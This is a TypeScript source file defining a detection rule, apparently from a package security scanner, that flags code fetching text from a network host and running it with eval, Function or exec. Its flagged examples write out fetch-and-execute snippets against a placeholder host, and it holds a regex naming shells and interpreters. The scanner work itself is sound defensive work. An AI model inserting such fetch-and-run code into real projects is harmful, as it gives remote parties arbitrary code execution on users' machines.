import { codeArguments, defineRule, step, stepsOf } from '../src/define.js';
import type { Call, FileContext, Label } from '../src/types.js';

export default defineRule({
  meta: {
    summary: 'Runs what another machine answers',
    why: 'What is fetched at run time was never published, reviewed or locked. Browser loaders insert scripts from their own site and test runners evaluate pages they open; both do so without handing an answer to `eval`, `Function` or a shell.',
    behaviour: 'execution',
    messages: {
      loader: 'Fetches text from an address it is given with {source} and runs it with {sink}',
      code: 'Fetches text with {source} and runs it with {sink}',
      template: 'Puts what it fetched with {source} into code it runs with {sink}',
      command: 'Fetches a command with {source} and hands it to {sink}',
    },
    bits: { loader: 6, code: 13.5, template: 5, command: 11 },
  },
  examples: {
    flags: [
      {
        title: 'a response is evaluated',
        code: `require('https').get('https://stage.invalid', res => {\n  let body = '';\n  res.on('data', chunk => { body += chunk; });\n  res.on('end', () => eval(body));\n});`,
      },
      {
        title: 'a promise of one is',
        code: `const axios = require('axios');\naxios.get('https://stage.invalid').then(r => new Function('require', r.data)(require));`,
      },
      {
        title: 'a command is fetched',
        code: `const { exec } = require('child_process');\nfetch('https://stage.invalid').then(r => r.text()).then(command => exec(command));`,
      },
    ],
    passes: [
      {
        title: 'a response is parsed',
        code: `fetch('https://api.invalid').then(r => r.json()).then(data => console.log(data));`,
      },
      {
        title: 'a response is written to a page',
        code: `fetch('/part.html').then(r => r.text()).then(html => { document.body.innerHTML = html; });`,
      },
      {
        title: 'a version that was fetched is part of a path',
        code: `const path = require('path'), { spawnSync } = require('child_process');\nfetch('https://releases.invalid/latest').then(r => r.text()).then(version => spawnSync(path.join(cache, version, 'setup.exe')));`,
      },
      {
        title: 'a timer asks again',
        code: `const poll = () => fetch('/state').then(r => r.json()).then(() => setTimeout(poll, 1000));`,
      },
    ],
  },
  file(context) {
    for (const call of context.calls('execution', 'process')) {
      const isCommand = context.calls('process').includes(call);
      for (const arg of isCommand ? commandArguments(context, call) : codeArguments(context, call)) {
        if (call.name === 'import' || /^document\./.test(call.name)) continue;
        const label = context.labelsOf(arg).find(({ kind }) => kind === 'remote');
        if (!label) continue;
        context.report({
          messageId: isCommand ? 'command' : isTemplate(context.textsOf(arg)) ? 'template' : kindOf(context, label),
          data: { source: label.detail, sink: call.name },
          chain: [...stepsOf(label), step('sink', `runs it with ${call.name}`, context.file, call.node)],
        });
      }
    }
  },
});

/**
 * The arguments that say what runs: the line or program, unless its beginning is fixed (`npm install <answer>` runs
 * npm), and the words of a program that runs what it is told.
 */
function commandArguments({ textsOf }: FileContext, { args }: Call): Call['args'] {
  const [program, words] = args;
  if (!program) return [];
  const texts = textsOf(program);
  // A path with a part that was fetched, a version say, is still a place the package chose.
  const fixed = texts.some(text => /^[^…]{2}/.test(text) || /[\\/]/.test(text));
  if (!fixed) return [program];
  return words &&
    texts.some(text =>
      /^(?:.*[\\/])?(?:sh|bash|zsh|cmd|powershell|pwsh|node|bun|python3?|osascript)(?:\.exe)?$/i.test(text),
    )
    ? [words]
    : [];
}

/** A module loader runs what its caller names; whose address nobody in the package says, the package did not choose it. */
function kindOf(context: FileContext, { origin }: Label): 'loader' | 'code' {
  if (origin.file !== context.file) return 'code';
  const made = context.calls('network').filter(call => call.node === origin.node);
  const opened = context.named('XMLHttpRequest().open');
  const addresses = made.some(({ name }) => name === 'XMLHttpRequest')
    ? opened.flatMap(({ args }) => args.slice(1, 2))
    : made.flatMap(({ args }) => args.slice(0, 1));
  return addresses.length > 0 && addresses.every(address => context.isHandedIn(address)) ? 'loader' : 'code';
}

/** Code with a blank filled in: `return function <name>() { … }`. The blank is seldom more than a name. */
function isTemplate(texts: readonly string[]): boolean {
  return texts.length > 0 && texts.every(text => /^[^…]{12}/.test(text));
}
